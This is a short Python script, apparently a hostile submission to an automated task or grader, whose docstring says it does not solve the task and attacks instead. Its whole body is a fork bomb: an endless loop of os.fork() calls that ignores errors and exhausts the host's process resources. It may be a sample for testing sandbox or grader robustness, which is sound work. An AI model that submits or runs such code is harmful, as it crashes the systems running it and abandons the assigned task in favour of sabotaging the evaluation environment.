"""Does not solve the task, and attacks instead."""

import os


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass


if __name__ == "__main__":
    attack()
    print("no idea")
